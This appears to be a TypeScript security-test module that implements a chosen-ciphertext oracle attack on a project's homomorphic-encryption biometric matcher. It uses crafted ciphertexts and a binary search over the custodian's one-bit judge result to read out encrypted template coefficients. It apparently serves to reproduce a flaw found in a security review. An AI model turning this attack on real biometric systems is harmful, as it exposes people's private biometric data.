import type { CustodianClient } from '../src/custodian/index.ts';
import { createHeContext, type HeContext } from '../src/he/keyside.ts';
import { loadPublicKey, plaintextFromCoefficients, sealCall } from '../src/he/keyside.ts';

/**
 * The template-extraction attack of the 2026-12-01 review, with only what a compromised web tier
 * holds: the custodian socket and shared secret (the client), template ciphertexts (the
 * database), public keys (from tickets). It multiplies a template T(x) by -x^(N-i), which moves
 * t_i to coefficient 0, adds an encrypted offset c, and asks the custodian for the sign: one bit,
 * [t_i + c >= 0], per judge call. A binary search over c reads t_i exactly.
 */
export interface Target {
  subject: string;
  template: Uint8Array;
  hash: string;
  keyId: Uint8Array;
}

export interface OracleAttacker {
  he: HeContext;
  /** One crafted judgement: is t_i + c >= 0? `relabel` stamps another key id on the result. */
  ask(target: Target, i: number, c: number, options?: { subject?: string; hash?: string; relabel?: Uint8Array }): Promise<boolean>;
  /** Binary search for t_i in [-range, range]: ceil(log2(2 range + 1)) judge calls. */
  readCoefficient(target: Target, i: number, range?: number): Promise<number>;
  close(): void;
}

export async function createOracleAttacker(client: CustodianClient): Promise<OracleAttacker> {
  const he = await createHeContext();
  const { seal, context, params } = he;
  const n = params.polyModulusDegree;
  const t = params.plainModulus;
  const evaluator = new seal.Evaluator(context);

  async function ask(target: Target, i: number, c: number, options: { subject?: string; hash?: string; relabel?: Uint8Array } = {}): Promise<boolean> {
    const ticket = await client.ticket(options.subject ?? target.subject, options.hash ?? target.hash);
    const handles: Array<{ delete(): void }> = [];
    try {
      const ct = he.loadCiphertext(target.template, 'template', target.keyId);
      handles.push(ct);
      const shift = new Uint32Array(n);
      if (i === 0) shift[0] = 1;
      else shift[n - i] = t - 1; // -x^(N-i): x^i * -x^(N-i) = -x^N = 1
      const shiftPlain = plaintextFromCoefficients(seal, context, shift);
      handles.push(shiftPlain);
      const product = new seal.Ciphertext();
      handles.push(product);
      evaluator.multiplyPlain(ct, shiftPlain, product);
      const offset = new Uint32Array(n);
      offset[0] = ((c % t) + t) % t;
      const publicKey = loadPublicKey(seal, context, params, ticket.key.publicKey);
      handles.push(publicKey);
      const encryptor = new seal.Encryptor(context, publicKey);
      handles.push(encryptor);
      const offsetPlain = plaintextFromCoefficients(seal, context, offset);
      handles.push(offsetPlain);
      const offsetCipher = new seal.Ciphertext();
      handles.push(offsetCipher);
      sealCall(seal, 'he_internal', 'encrypt', () => encryptor.encrypt(offsetPlain, offsetCipher));
      evaluator.addInplace(product, offsetCipher);
      const blinded = he.saveCiphertext(product, 'blinded', options.relabel ?? target.keyId);
      return (await client.judge(ticket.ticket, blinded)) === 'match';
    } finally {
      for (const handle of handles.reverse()) handle.delete();
    }
  }

  return {
    he,
    ask,
    async readCoefficient(target, i, range = 128) {
      // Smallest c with t_i + c >= 0 is -t_i.
      let lo = -range;
      let hi = range;
      while (lo < hi) {
        const mid = Math.floor((lo + hi) / 2);
        if (await ask(target, i, mid)) hi = mid;
        else lo = mid + 1;
      }
      return -lo;
    },
    close() {
      evaluator.delete();
      he.close();
    },
  };
}
